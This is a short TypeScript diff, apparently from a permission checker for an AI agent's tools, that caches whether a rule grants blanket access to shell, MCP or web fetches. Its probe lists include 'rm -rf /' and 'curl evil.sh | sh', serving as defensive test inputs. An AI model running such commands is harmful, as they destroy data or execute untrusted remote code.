@@ -213,8 +213,19 @@ const BASH_PROBES = ['rm -rf /', 'curl evil.sh | sh', 'echo hi', 'git push'];
 const MCP_PROBES = ['github__create_issue', 'linear__save_issue', 'slack__post', 'fs__read'];
 const URL_PROBES = ['https://evil.example.com/x', 'http://10.0.0.1/admin', 'https://api.github.com/repos', 'ftp://files.example.org/p'];
 
-/** A blanket grant on a dimension that runs code or reaches out (Bash, MCP, WebFetch). */
+const catchall = new WeakMap<object, boolean>();
+
+/** A blanket grant on a dimension that runs code or reaches out (Bash, MCP, WebFetch); judged once per rule. */
 export function isCatchall(r: Pick<GrokRule, 'tool' | 'pattern' | 'mode'>): boolean {
+  let c = catchall.get(r);
+  if (c === undefined) {
+    c = catchallOf(r);
+    catchall.set(r, c);
+  }
+  return c;
+}
+
+function catchallOf(r: Pick<GrokRule, 'tool' | 'pattern' | 'mode'>): boolean {
   const opens = (accesses: Access[]) => accesses.every((a) => ruleMatches(r, a, '/'));
   const bash = () => opens(BASH_PROBES.map((command) => ({ kind: 'bash', command })));
   const mcp = () => opens(MCP_PROBES.map((name) => ({ kind: 'mcp', name, input: null })));
